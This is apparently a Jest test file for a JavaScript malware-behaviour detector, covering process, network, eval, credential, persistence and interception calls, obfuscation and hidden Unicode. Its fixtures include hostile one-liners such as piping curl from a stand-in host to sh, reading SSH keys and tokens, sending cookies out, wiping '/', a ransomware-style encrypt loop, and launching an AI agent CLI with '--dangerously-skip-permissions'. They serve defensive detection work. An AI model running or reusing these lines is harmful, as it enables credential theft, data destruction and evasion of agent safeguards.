import { describe, expect, it } from '@jest/globals'
import type { Behaviour } from '../../../src/model/behaviour.js'
import { behaviourOf } from '../../../src/inspect/behaviour/behaviour-of.js'
import { effortOf } from '../../helpers/effort.js'

const base64 = (text: string): string => Buffer.from(text).toString('base64')

function capabilities(text: string): readonly string[] {
  return behaviourOf(text).capabilities.map(
    ({ kind, call, concealed }) => `${concealed ? 'concealed ' : ''}${kind}: ${call}`,
  )
}

function kinds(text: string): readonly string[] {
  return [
    ...new Set(behaviourOf(text).capabilities.map(({ kind, concealed }) => `${concealed ? 'concealed ' : ''}${kind}`)),
  ]
}

describe('code that does something is seen', () => {
  it.each([
    ['require("child_process").exec("id")', 'process: require("child_process").exec'],
    ["import { exec } from 'node:child_process'", "process: 'node:child_process'"],
    ["const n = 'child_process'; load(n)", "process: 'child_process'"],
    ['module.require("child_process")', 'process: module.require("child_process")'],
    ['createRequire(import.meta.url)("child_process")', 'process: "child_process")'],
    ['require /* a */ ( // b\n "child_process" ) . exec()', 'process: require /* a */ ( // b "child_process" ) . exec'],
    ['fetch("/a")', 'network: fetch'],
    ['window.fetch("/a")', 'network: fetch'],
    ['new WebSocket(url)', 'network: new WebSocket'],
    ['navigator.sendBeacon(url)', 'network: sendBeacon'],
    ['require("https").get(url)', 'network: require("https").get'],
    ['eval(text)', 'evaluation: eval'],
    ['(0, eval)(text)', 'evaluation: eval'],
    ['new Function("a", text)', 'evaluation: Function'],
    ['[].filter.constructor("return process")()', 'evaluation: constructor'],
    ['setTimeout("f(1)", 5)', 'evaluation: setTimeout("f(1)"'],
    ['globalThis["eval"](text)', 'evaluation: globalThis["eval"]'],
    ['process.dlopen(module, path)', 'native: process.dlopen'],
    ['require("./build/x.node")', 'native: require("./build/x.node")'],
    ['read(home + "/.npmrc")', 'credentials: "/.npmrc"'],
    ['read(`${home}/.ssh/id_rsa`)', 'credentials: }/.ssh/id_rsa`'],
    ['JSON.stringify(process.env)', 'credentials: stringify(process.env'],
    ['send(process.env.NPM_TOKEN)', 'credentials: process.env.NPM_TOKEN'],
    ['const { NPM_TOKEN } = process.env', 'credentials: NPM_TOKEN'],
    ['fs.writeFileSync(os.homedir() + "/x", a)', 'outside: writeFileSync(os.homedir() + "/x", a)'],
    ['append(home, ".bashrc")', 'persistence: ".bashrc"'],
    ['XMLHttpRequest.prototype.send = f', 'interception: XMLHttpRequest.prototype.send'],
    ['window.fetch = f', 'interception: window.fetch'],
    ['window.ethereum.request(a)', 'interception: window.ethereum'],
  ])('%s', (text, found) => {
    expect(capabilities(text)).toContain(found)
  })
})

describe('a name that is hidden from readers is seen', () => {
  it.each([
    ['require("chi" + "ld_process")', 'concealed process'],
    ['require(`chi${"ld_"}process`)', 'concealed process'],
    ['require(["child", "process"].join("_"))', 'concealed process'],
    ['require("chi".concat("ld_", "process"))', 'concealed process'],
    ['require("ssecorp_dlihc".split("").reverse().join(""))', 'concealed process'],
    ['const r = "ssecorp_dlihc"; load(back(r))', 'concealed process'],
    ['require("ch~ild_pro~cess".replace(/~/g, ""))', 'concealed process'],
    ['require("\\x63hild_process")', 'concealed process'],
    ['require("\\u0063hild_process")', 'concealed process'],
    ['const a = "child_", b = "process"; require(a + b)', 'concealed process'],
    ['require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115))', 'concealed process'],
    [`load("${base64('child_process')}")`, 'concealed process'],
    [`load("${base64(base64('child_process'))}")`, 'concealed process'],
    [`load("${Buffer.from('child_process').toString('hex')}")`, 'concealed process'],
    ['this["ev" + "al"](x)', 'concealed evaluation'],
    ['\\u0065val(x)', 'concealed evaluation'],
    [`run("${base64('fetch("https://a.zz")')}")`, 'concealed network'],
    ['eval("require(\'child_process\').exec(1)")', 'concealed process'],
  ])('%s', (text, found) => {
    expect(kinds(text)).toContain(found)
  })
})

describe('ordinary code has nothing of it', () => {
  it.each([
    '// require("child_process")',
    'const list = ["assert", "child_process", "fs"]',
    'isBuiltin("child_process"); list.includes("child_process")',
    'const a = { child_process: false, fetch() { return 1 }, eval: 1 }',
    'function fetch(a) { return a }; class B { async fetch(a) { return 1 } }',
    'api.fetch("/a"); store.eval(x); x instanceof Function; typeof fetch',
    'const root = Function("return this")() || new Function("return this;")()',
    'const load = eval("require")',
    'process.env.NODE_ENV; spawn(a, { env: { ...process.env, A: 1 } }); const { env } = process',
    'const message = "cannot read " + "the file"',
    '"http" + "s"; "https:" + "//"',
    'this.constructor("a"); new x.constructor(a)',
    'setTimeout(() => f(1), 5)',
    'const s = "componentWillReceiveProps aGVsbG8gd29ybGQgaGVsbG8="',
    'fs.writeFileSync(path.join(__dirname, "a"), b)',
    'const ethereum = 1; a.ethereum',
  ])('%s', (text) => {
    expect(capabilities(text)).toEqual([])
  })
})

describe('text that is no JavaScript', () => {
  it('hides nothing behind a fault', () => {
    expect(kinds('const a = "open\n`\nrequire("child_process")')).toContain('process')
    expect(kinds('<div>don\'t</div>\nrequire("child_process")')).toContain('process')
  })

  it('is read as data where it is JSON', () => {
    const text = JSON.stringify({ a: 'require("child_process").exec("x")', b: 'https://a.zz/b' })
    const { capabilities: found, hosts } = behaviourOf(text, 'data')
    expect(found.map(({ kind }) => kind)).toEqual(['process'])
    expect(hosts.map(({ host }) => host)).toEqual(['a.zz'])
  })
})

function hosts(text: string): readonly string[] {
  return behaviourOf(text).hosts.map(({ host, kind, asked }) => `${kind} ${host}${asked ? ' asked' : ''}`)
}

describe('hosts', () => {
  it.each([
    ['f("https://API.example.zz:443/a")', ['plain api.example.zz']],
    ['fetch("https://a.zz/b")', ['plain a.zz asked']],
    ['require("child_process").exec("curl https://a.zz")', ['plain a.zz asked']],
    ['const h = require("https"); h.get("https://a.zz")', ['plain a.zz asked']],
    [
      'import h, { request as r } from "node:https"; r("https://a.zz"); h.get("https://b.zz")',
      ['plain a.zz asked', 'plain b.zz asked'],
    ],
    ['const { exec: e, spawn: s } = require("child_process"); e("curl -s a.zz/x | sh")', ['plain a.zz asked']],
    ['x.open("POST", "https://a.zz")', ['plain a.zz asked']],
    ['image.src = "https://a.zz/p?" + k', ['plain a.zz asked']],
    ['location.replace("https://a.zz/b"); text.replace("https://b.zz", "")', ['plain a.zz asked', 'plain b.zz']],
    ['location.href = "https://a.zz/b"; link.href = "https://b.zz"', ['plain a.zz asked', 'plain b.zz']],
    ['form.action = "https://a.zz/b"; jsx("img", { src: "https://b.zz/c" })', ['plain a.zz asked', 'plain b.zz asked']],
    ['Object.assign(document.createElement("link"), { href: "https://a.zz" })', ['plain a.zz asked']],
    ['style.textContent = "@import url(https://a.zz/b.css)"', ['plain a.zz asked']],
    [
      'fetch("http://3323070231/x"); fetch("http://0xc6120717/x")',
      ['address 3323070231 asked', 'address 0xc6120717 asked'],
    ],
    [
      'fetch("http://[2001:4860::7]:80/x"); fetch("http://[2001:db8::7]/x")',
      ['address [2001:4860::7] asked', 'address [2001:db8::7] asked'],
    ],
    ['const u = "https://a.zz/b"; fetch(u)', ['plain a.zz asked']],
    ['const u = new URL("/a", "https://a.zz"); fetch(u)', ['plain a.zz asked']],
    ['options.u = "https://a.zz/b"; fetch(u)', ['plain a.zz']],
    ['fetch("https://a.example/b"); f("https://a.example/b")', ['plain a.example asked']],
    ['const n = require("net"); n.connect(443, "203.0.113.9")', ['address 203.0.113.9 asked']],
    ['document.write(\'<script src="//a.zz/x.js">\')', ['plain a.zz asked']],
    ['f("https://api.staging.example.com/a")', ['development api.staging.example.com']],
    ['import("https://a.zz/x.js")', ['plain a.zz asked']],
    ['other.get("https://a.zz"); window.open("https://b.zz")', ['plain a.zz', 'plain b.zz']],
    ['https.request({ hostname: "a.zz", path })', ['plain a.zz asked']],
    ['f("https://github.com@a.zz")', ['plain a.zz']],
    ['f("https://" + "a." + "zz/b")', ['plain a.zz']],
    ['f(`https://a.zz/${b}`)', ['plain a.zz']],
    ['f("https://discord.com/api/webhooks/1")', ['paste discord.com']],
    ['f("http://198.18.0.7/a")', ['address 198.18.0.7']],
    ['f("http://localhost:3000")', ['development localhost']],
    ['f("https://api.staging.acme.zz/a")', ['development api.staging.acme.zz']],
    ['new URL(a, "http://localhost"); f("http://10.0.0.1/a"); f("https://example.com")', []],
    ['f("http://www.w3.org/2000/svg") // https://a.zz', []],
  ])('%s', (text, found) => {
    expect(hosts(text)).toEqual(found)
  })
})

function hidden(text: string): readonly string[] {
  return behaviourOf(text).hidden.map(({ kind, line }) => `${kind} ${line}`)
}

describe('hidden text', () => {
  it.each([
    ['\nif (a !== "user\u202e \u2066// only admins\u2069") b()', ['bidirectional 2']],
    ['a()\n// \u2066 b', ['bidirectional 2']],
    [`s = "v${'\u{e0131}\ufe01'.repeat(6)}"`, ['invisible 1']],
    ['const \u3164 = 1', ['invisible 1']],
    ['var p\u0430yload = 1', ['lookalike 1']],
    ['const \u{1d41e}val = 1', ['lookalike 1']],
    ['const na\u200dme = 1', ['invisible 1']],
    ['a["to\u200bken"] = 1', ['invisible 1']],
    ['label("long\u00adword"); a = "a \u200b b"', []],
    [`s = "${'\t  '.repeat(12)}"`, ['invisible 1']],
    ['const \u{1d6fc} = 1, \u0645\u06cc\u200c\u0634 = 2', []],
    ['if (a) {\n\t\t    b() // \t \t c\n}', []],
    [`a();${' '.repeat(250)}b()`, ['far-right 1']],
    [`a()\n${' '.repeat(250)}b()`, ['far-right 2']],
    ['const marks = ["\u2066", "\u2069"]; const r = /[\u200b-\u200f\u202a-\u202e]/', []],
    ['const a = "\u043f\u0440\u0438\u0432\u0435\u0442", \u03c02 = 1, \u043f\u0440\u0438\u0432\u0435\u0442 = 2', []],
    ['const family = "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\ufe0f"', []],
    [`a(\n${' '.repeat(220)}b,\n${' '.repeat(240)}c)`, ['far-right 2']],
    [`a()${' '.repeat(300)}\nb() /* ${' '.repeat(300)} */`, []],
  ])('%s', (text, found) => {
    expect(hidden(text)).toEqual(found)
  })
})

function debug(text: string): readonly string[] {
  return behaviourOf(text).debug.map(({ kind }) => kind)
}

describe('what was left from development', () => {
  it.each([
    ['a(); debugger; b()', ['debugger']],
    ['if (a) { debugger }', ['debugger']],
    ['it.only("a", f)', ['only']],
    ['if ("development" !== "production") a()', ['development']],
    ['a = "production" === \'development\'', ['development']],
    ['import { jsxDEV } from "react/jsx-dev-runtime"', ['development']],
    ['$RefreshReg$(a, "b")', ['hot-reload']],
    ['if (module.hot) module.hot.accept()', ['hot-reload']],
    ['document.write(`<script src="http://a:35729/livereload.js"></script>`)', ['hot-reload']],
    ['if (options.hot) options.hot.accept()', []],
    ['slow = "development" === "development"', ['development']],
    ['warn("You are running a development build of A.\\nUse the production build.")', ['development']],
    ['if (process.env.NODE_ENV !== "x") warn("a development build of A, not for production")', []],
    ['_jsxDEV("div", {}, void 0, false, {}, this)', ['development']],
    ['const gcv = "__coverage__"', ['coverage']],
    ['const f = jest.fn(); vi.mock("a")', ['tests']],
    ['if (import.meta.vitest) test()', ['tests']],
    ['process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"', ['certificates']],
    ['request({ rejectUnauthorized: false })', ['certificates']],
    ['request({ rejectUnauthorized: !1 })', ['certificates']],
    ['request({ rejectUnauthorized: strict }); process.env.NODE_TLS_REJECT_UNAUTHORIZED === "0"', []],
    ['exports.jsxDEV = f; function jsxDEV(a) {}; this.jest.fn(); x.vitest', []],
    ['a.debugger = 1; b = { debugger: 1 }; list.only(a); process.env.NODE_ENV !== "production"', []],
  ])('%s', (text, found) => {
    expect(debug(text)).toEqual(found)
  })
})

function shape(text: string): Behaviour['shape'] {
  return behaviourOf(text).shape
}

const readable = Array.from(
  { length: 40 },
  (_, n) => `function f${n}(first, second) {\n  return first + second * ${n}\n}\n`,
).join('\n')
const small = Array.from({ length: 40 }, (_, n) => `function f${n}(a,b){return a+b*${n}}`).join('')

describe('how code is written', () => {
  it('tells readable from minified code, whatever comments say', () => {
    expect(shape(readable).form).toBe('readable')
    expect(shape(small).form).toBe('minified')
    expect(shape(`/*!\n${' * a licence\n'.repeat(40)}*/\n${small}`).form).toBe('minified')
    expect(shape('module.exports = 1\n').form).toBe('other')
  })

  it.each([
    [
      'names of an obfuscator',
      Array.from({ length: 30 }, (_, n) => `var _0x${(4096 + n).toString(16)}=${n};`).join(''),
    ],
    ['a table that is turned', `${'-parseInt(f(0x1))/0x1+'.repeat(5)}0`],
    ['members out of a table', 'a[f(0x1)](b[f(0x2)]);'.repeat(12)],
    ['escaped strings', Array.from({ length: 25 }, () => 'a("\\x61\\x62\\x63\\x64\\x65\\x66");').join('')],
    ['a small table', 'var _0x3f2a=["a"];function _0x51bc(_0x1ab9){return _0x3f2a[_0x1ab9]}f(_0x51bc(0));'],
    ['brackets and signs in other code', `${readable}[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]`],
    ['brackets and signs', '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]'.repeat(20)],
    ['a packer', 'eval(function(p,a,c,k,e,d){return p}("0",1,1,"a".split("|"),0,{}))'],
  ])('knows %s', (_, text) => {
    expect(shape(text).obfuscation).toHaveLength(1)
  })

  it('takes a bundle, a table of data and minified code for none', () => {
    expect(shape(`${'var a=n(12),b=n(345);'.repeat(50)}${small}`).obfuscation).toEqual([])
    expect(shape(`a=[${'"\\u00e9t\\u00e9",1,'.repeat(200)}]`).obfuscation).toEqual([])
  })

  it('finds the fullest line of code, and no data', () => {
    expect(shape(`${readable}\n${small}\n`).densest.line).toBeGreaterThan(150)
    expect(shape(`${readable}\na=[${'1,'.repeat(2000)}]\n`).densest.tokens).toBeLessThan(40)
  })
})

function numbers(text: string, change: (code: number) => number): string {
  return Array.from(Buffer.from(text), change).join()
}

describe('a way round', () => {
  it.each([
    ['Reflect.get(globalThis, "eval")("x=1")', '!evaluation'],
    ['[].constructor.constructor("return process")()', 'evaluation'],
    ['(()=>{})["constructor"]("return process.env")()', 'evaluation'],
    ['const F = Function; new F("return 1")()', 'evaluation'],
    ['const e = eval; e("x=1")', 'evaluation'],
    ['eval.call(null, "x=1")', 'evaluation'],
    ['globalThis["process"]["getBuiltinModule"]("child_process")', 'process'],
    ['process["binding"]("spawn_sync")', 'native'],
    ['import("data:text/javascript,run(1)")', 'evaluation'],
    [`import("data:text/javascript;base64,${btoa('import("child_process")')}")`, '!process'],
    ['WebAssembly.instantiate(bytes)', 'native'],
    ['new Worker(text, { eval: true })', 'evaluation'],
    ['new module.constructor()._compile(text, "")', 'evaluation'],
    ['require("./README.md")', 'evaluation'],
    ['require.extensions[".txt"] = run', 'evaluation'],
    ['new (require("node:vm").Script)(text)', 'evaluation'],
    ['require(unescape("%63%68%69%6c%64%5f%70%72%6f%63%65%73%73"))', '!process'],
    ['require("xchild_processx".slice(1, -1))', '!process'],
    ['require("abcchild_process".substring(3))', '!process'],
    ['const o = { a: "child_", b: "process" }; require(o.a + o.b)', '!process'],
    ['const w = ["exec", "child_process"]; require(w[1])[w[0]]("id")', 'process'],
    ['Bun.spawn(["id"])', 'process'],
    ['new Deno.Command("sh", {})', 'process'],
    ['join(homedir(), ".aws", "credentials")', 'credentials'],
    ['location.href = "https://a.zz/?c=" + document.cookie', 'credentials'],
    ['window["ethereum"].request()', 'interception'],
    ['window.solana.signTransaction = f', 'interception'],
    ['window["fetch"] = f', 'interception'],
    ['Object.defineProperty(XMLHttpRequest.prototype, "send", { value: f })', 'interception'],
    ['Array.prototype.map = function (f) {}', 'interception'],
    ['const h = require("https"); h.request = f', 'interception'],
    ['navigator.clipboard.readText()', 'interception'],
    ['rmSync("/", { recursive: true })', 'outside'],
    ['new RTCPeerConnection({})', 'network'],
    ['frame.contentWindow.fetch("/a")', 'network'],
    ['eval?.("x=1")', 'evaluation'],
    ['globalThis?.eval?.("x=1")', 'evaluation'],
    ['Function`x=1`', 'evaluation'],
    ['["x=1"].forEach(eval); a()', 'evaluation'],
    ['[eval][0]("x=1")', 'evaluation'],
    ['list.map(Function)', 'evaluation'],
    ['Reflect.construct(Function, ["x=1"])', 'evaluation'],
    ['setTimeout.call(null, "x=(1)", 5)', 'evaluation'],
    ['const t = "x=(1)"; setTimeout(t, 5)', 'evaluation'],
    ['new Blob(["x=1"], { type: "text/javascript" })', 'evaluation'],
    ['body.setAttribute("onload", "x=1")', 'evaluation'],
    ['location.href = "javascript:x=document.cookie"', 'evaluation'],
    ['process.env.NODE_OPTIONS = "--require ./x.js"', 'evaluation'],
    ['require("./test/" + "x.js")', 'evaluation'],
    ['const { Module: M } = WebAssembly', 'native'],
    ['const o = { m: "child_process", f: "exec" }; require(o.m)', 'process'],
    ['JSON.parse("{\\"m\\":\\"child_process\\"}", (k, v) => require(v))', '!process'],
    ['require([99,104,105,108,100,95,112,114,111,99,101,115,115].map(toText).join(""))', '!process'],
    [`require(back([${numbers('child_process', (code) => code ^ 42)}]))`, '!process'],
    [`require(back([${numbers('child_process', (code) => code - 3)}]))`, '!process'],
    [`run([${numbers('fetch("https://a.zz/b")', (code) => code ^ 77)}])`, '!network'],
    ['load(turn("puvyq_cebprff"))', '!process'],
    ['require((20972641).toString(36) + x)', '!evaluation'],
    ['let n = "chi"; n += "ld_"; n += "process"; require(n)', '!process'],
    ['require(["chi", "ld_", "pro", "cess"].reduce(sum))', '!process'],
    ['require("\\143\\150\\151\\154\\144_process")', '!process'],
    ['var r = require; r(e("2e2f746573742f64617461"))', '!evaluation'],
    ['fs.readFileSync("/proc/self/environ")', 'credentials'],
    ['read("/var/run/secrets/kubernetes.io/serviceaccount/token")', 'credentials'],
    ['join(".git", "hooks", "post-checkout")', 'persistence'],
    ['join(root, ".github", "workflows", "a.yml")', 'persistence'],
    ['write(root + "/.claude/settings.json", hooks)', 'persistence'],
    ['writeFileSync(require.resolve("other/index.js"), a)', 'outside'],
    ['rmSync("../../..", { recursive: true })', 'outside'],
    ['Object.prototype.shell = "/bin/sh"', 'interception'],
    ['Module.prototype.require = f', 'interception'],
    ['const m = require("module"); m._load = f', 'interception'],
    ['require.cache[k].exports = f', 'interception'],
    ['require.cache[k].exports.verify = f', 'interception'],
    ['http.Server.prototype.emit = f', 'interception'],
    ['tls.checkServerIdentity = f', 'interception'],
    ['node.data = "0x000000000000000000000000000000000000dEaD"', 'interception'],
    ['d[Symbol.for("undici.globalDispatcher.1")] = p', 'interception'],
    ['process.env.LD_PRELOAD = "./a.so"', 'interception'],
    ['process.env.PATH = "/tmp/.b:" + process.env.PATH', 'interception'],
    ['parent.postMessage({ c: document.cookie }, "*")', 'credentials'],
    ['read(home + "/.vault-token"); read(home + "/.claude/.credentials.json")', 'credentials'],
    ['fetch(env.ACTIONS_ID_TOKEN_REQUEST_URL)', 'credentials'],
    ['ask({ socketPath: "/var/run/docker.sock" })', 'credentials'],
    ['appendFileSync(process.env.GITHUB_ENV, "A=b")', 'persistence'],
    ['writeFile(process.cwd() + "/.pnpmfile.cjs", text)', 'persistence'],
    ['writeFileSync(file, text); import(pathToFileURL(file).href)', 'evaluation'],
    ['spawn("sh")', 'process'],
    ['execFile("git", ["config", "core.fsmonitor", x])', 'process'],
    ['el.setAttribute("on" + "click", text)', '!evaluation'],
    ['Math.random = f', 'interception'],
    ['Object.defineProperty(globalThis, "fetch", { value: f })', 'interception'],
    ['ethereum.request = f', 'interception'],
    ['e.clipboardData.setData("text/plain", "0x00000000000000000000")', 'interception'],
    ['process.env.npm_config_registry = u', 'interception'],
    ['(await import(made(x))).exec("id")', 'process'],
    ['const c = await import([..."abc"].reduce(f)); c.exec("id")', 'process'],
    ['const { constructor: K } = () => {}; K("x=1")', 'evaluation'],
    ['setTimeout.bind(null, "x=(1)")', 'evaluation'],
    ['const s = document.createElement("script"); s.textContent = t', 'evaluation'],
    ['body.innerHTML += "<svg onload=f(1)>"', 'evaluation'],
    ['const all = { run: globalThis.eval }', 'evaluation'],
    ['Reflect.ownKeys(process.env)', 'credentials'],
    ['join(homedir(), ".config", "gh", "hosts.yml")', 'credentials'],
    ['Response.prototype.json = f', 'interception'],
    ['Object.defineProperty(HTMLInputElement.prototype, "value", { get: f })', 'interception'],
    ['crypto.subtle.encrypt = f', 'interception'],
    ['new WebTransport(u)', 'network'],
    ['write(".husky/pre-commit", a)', 'persistence'],
    ['writeFileSync("node_modules/.bin/tsc", a)', 'outside'],
    ['process.env.HTTPS_PROXY = "http://a.zz"', 'interception'],
    ['JSON.parse = f', 'interception'],
    ['navigator.clipboard.writeText = f', 'interception'],
    ['node.data.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, mine)', 'interception'],
    ['const g = typeof self !== "undefined" ? self : globalThis, F = g.Function; F("x=1")', 'evaluation'],
    ['var root = Function("return this")(); root.eval("x=1")', 'evaluation'],
    ['globalThis?.["eval"]?.("x=1")', 'evaluation'],
    ['globalThis[decode(3)](x)', 'evaluation'],
    ['for (const k of names) window[k]("x=1")', 'evaluation'],
    ['const A = Object.getPrototypeOf(async function () {}).constructor; new A("x=1")', 'evaluation'],
    ['new (Object.getPrototypeOf(function* () {}).constructor)("x=1")', 'evaluation'],
    ['new (class extends Function {})("x=1")', 'evaluation'],
    ['wrap(globalThis.eval)("x=1")', 'evaluation'],
    ['(1, globalThis.eval)(x)', 'evaluation'],
    ['new Worker(URL.createObjectURL(file))', 'evaluation'],
    ['globalThis.process?.getBuiltinModule?.("child_process")', 'process'],
    ['const n = typeof require !== "undefined" ? require : null; n("https").get(u)', 'network'],
    ['const m = ["child_process", "exec", "id"]; require(m[0])[m[1]](m[2])', 'process'],
    ['run(cli, ["--dangerously-skip-permissions", "-p", text])', 'process'],
    ['link.rel = "dns-prefetch"', 'network'],
    ['for (const k in process.env) send(k)', 'credentials'],
    ['const { env: all } = process; send(JSON.stringify(all))', 'credentials'],
    ['Object.entries(globalThis.process?.env ?? {}).filter(f)', 'credentials'],
    ['["GITHUB_TOKEN", "NPM_TOKEN"].map((k) => process.env[k])', 'credentials'],
    ['readFileSync(process.cwd() + "/.env", "utf8")', 'credentials'],
    ['readFileSync("/proc/" + id + "/maps")', 'credentials'],
    ['const d = join(homedir(), "Desktop"); const f = join(d, "x"); writeFileSync(f, a)', 'outside'],
    ['const t = resolve(process.cwd(), "node_modules/other/a.js"); writeFileSync(t, a)', 'outside'],
    [
      'for (const n of readdirSync(d)) { c = createCipheriv(a, k, i); writeFileSync(n + ".x", c); rmSync(n) }',
      'outside',
    ],
  ])('%s is named', (text, kind) => {
    expect(behaviourOf(text).capabilities.map(({ kind: what, concealed }) => (concealed ? '!' : '') + what)).toContain(
      kind,
    )
  })

  it.each([
    'Reflect.get(target, "constructor")',
    'var $Function = Function; if (x instanceof Function) y()',
    'const F = Function; F("return this")()',
    'if (!Array.prototype.at) Array.prototype.at = function (n) {}',
    'const slice = Array.prototype.slice; slice.call(a)',
    'x.constructor === Object; x["constructor"](1)',
    'require("./data.json"); require("./lib/a"); require("./pic.png")',
    'const all = ["assert", "buffer", "child_process", "cluster", "console", "crypto", "dns"]',
    'const image = "data:image/png;base64,AAAA"',
    'const types = { ".aws": 1, a: [".docker", ".kube"] }',
    'if (document.cookie) parse(document.cookie)',
    'decodeURIComponent("a%20b"); unescape(x)',
    'import x from "./readme.md"; a.slice(1); "abc".slice(1)',
    'unlinkSync(file); rmSync("./dist")',
    'WebAssembly.Memory; Bun.version; Deno.env.get("A")',
    'JSON.stringify(a); a.b + a.c',
    'const all = { "%eval%": eval, f: Function }; typeof eval; a === eval',
    'props: { a: [String, Function], b: { type: Function } }; isA(x, Function)',
    'const F = list.map(String).filter(Function.prototype.call)',
    'new Blob([text], { type: "text/plain" }); el.setAttribute("online", "a=1")',
    'a.href = "javascript:void(0)"; b.href = "javascript:;"',
    'const builtins = { assert: "assert", child_process: "child_process" }',
    'const table = { a: "assert", b: "buffer", c: "child_process", d: "dns", e: "events", f: "fs", g: "http" }',
    'const primes = [2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37, 41]; const low = [-1, -2, -3, -4, -5]',
    'let text = "a"; text += "b"; text += name; (255).toString(16); n.toString(36)',
    'require("./locale/" + name); import("./lang/" + name + ".js")',
    'Foo.prototype.then = f; my.Object.prototype.x = 1; this._load = f; loader._load = f',
    'process.env.NODE_OPTIONS = "--max-old-space-size=4096"; process.env.NODE_ENV === "a"',
    'delete require.cache[k]; require.cache[k].exports === f; Math.random() === 1',
    'Object.defineProperty(exports, "fetch", { value: f }); e.clipboardData.setData("text/plain", text)',
    'join(a, ".git"); join(".github", "actions"); copyFileSync(require.resolve("x/a.css"), b)',
    'require("./v1.2"); require("./view.html.js"); const e = "2e2f61"',
    'const g = globalThis; g.timers = 1; self[name] = f; window[Symbol.for("a")] = b',
    'const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor; x instanceof AsyncFunction',
    'text.replace(/[a-f0-9]{40}/g, ""); new Worker(new URL("./w.js", import.meta.url))',
    'const { env } = process; spawn(a, { env: { ...env, A: 1 } }); const f = join(root, "a"); writeFileSync(f, home)',
    'writeFileSync("node_modules/.cache/a/b", c); readFileSync("a.env"); const t = ["CI", "NPM_TOKEN"]',
    'const m = await import(path); m.default(); (await import(name)).load(); regex.exec(a)',
    'const s = document.createElement("style"); s.textContent = a; el.innerHTML = "<svg width=1>"',
    'const { constructor: C } = this; Response.json(a); crypto.subtle.encrypt(a, b, c)',
    'require.cache[k].exports.a === f; emitter.emit = f; node.data = "0x00"; input.value = text; x.textContent = id',
    'read(env.GITHUB_ENV); appendFileSync(log, env.GITHUB_ENV ?? ""); port.postMessage({ cookie: 1 })',
    'process.env.PATH = bin + delimiter + process.env.PATH; spawn("sh", ["-c", command]); import(made(file))',
    'writeFileSync(file, text); import(other); lock.includes(".pnpmfile.cjs"); el.setAttribute("on" + name, f)',
    'createCipheriv(a, b, c); spawn(a, { detached: true }); link.rel = "stylesheet"',
  ])('%s is ordinary', (text) => {
    expect(behaviourOf(text).capabilities).toEqual([])
  })
})

describe('a hostile text', () => {
  const long = 'a'.repeat(1_000_000)
  it.each([
    ['with blanks in code that is evaluated', `eval("${' '.repeat(100_000)}x")`],
    ['with a long text between pieces', `["a",${'"a",'.repeat(398)}"a"].join("${long}${long}")`],
    ['with a long text in place of each letter', `"${long}".split("").join("${long}")`],
  ])('%s is read in no time', async (_, text) => {
    expect(await effortOf(() => behaviourOf(text), 5_000)).toBeLessThan(5_000)
  })

  it('is evaluated with blanks around it', () => {
    expect(kinds(`eval("${' '.repeat(300)}require${' '.repeat(300)}")`)).toEqual([])
    expect(kinds(`eval("${' '.repeat(300)}x()")`)).toEqual(['evaluation'])
  })
})
